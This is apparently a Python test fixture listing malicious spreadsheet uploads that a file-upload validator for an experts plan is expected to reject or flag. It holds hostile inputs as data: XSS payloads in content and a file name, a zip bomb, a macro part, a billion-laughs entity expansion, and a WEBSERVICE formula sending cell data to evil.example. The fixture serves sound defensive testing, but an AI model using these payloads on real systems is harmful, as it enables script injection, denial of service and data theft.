"""Files that no planner means to drop: what each is called, what it holds, what the desk says of it."""

import io
from typing import Final

from openpyxl import Workbook

from tests.tables.excel.test_workbook_files import OLE
from tests.tables.excel.workbook_parts import parts, sheet_xml, zipped

_LAUGHS: Final = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>' + sheet_xml([["expert"], ["&b;"]])


def _plan(**changes: str) -> dict[str, str]:
    return parts({"Experts": sheet_xml([["expert", "administration", "languages"]]), **changes})


def _with(name: str, content: str | bytes, **changes: str) -> bytes:
    return zipped({**_plan(**changes), name: content}, packed=True)


def _locked() -> bytes:
    """Marked as encrypted, part by part."""
    content = bytearray(zipped(_plan(), packed=True))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def _formula() -> bytes:
    book, content = Workbook(), io.BytesIO()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Experts"
    sheet.append(["expert", "administration", "languages"])
    sheet.append(['=WEBSERVICE("http://evil.example/"&A1)', "KEN", "en"])
    book.save(content)
    return content.getvalue()


#: Refused as a whole: the name that the browser gives, the content, and part of what is said.
HOSTILE: Final = (
    ("plan.xlsx", b"PK\x03\x04 but nothing behind it", "is cut off or damaged"),
    ("empty.xlsx", b"", "is empty"),
    ("plan.xlsx", b"%PDF-1.7", "is a PDF document by another name"),
    ("plan.xlsx", b"<html><script>alert(1)</script>", "is a web page by another name"),
    ("<img src=x onerror=alert(1)>.xlsx", OLE, "plan.xlsx"),
    ("bomb.xlsx", _with("xl/media/image.bin", bytes(8 << 20)), "far more than a plan"),
    ("macros.xlsx", _with("xl/vbaProject.bin", b"x"), "holds macros"),
    ("laughs.xlsx", _with("docProps/x.xml", "x", Experts=_LAUGHS), "is damaged in the sheet"),
    ("broken.xlsx", _with("xl/workbook.xml", "<broken"), "is damaged"),
    ("password.xlsx", _locked(), "is a zip file with a password"),
)
#: Read as far as that goes: what is wrong stands beside its cells.
LOCATED: Final = (("formula.xlsx", _formula(), "Experts!A2"),)
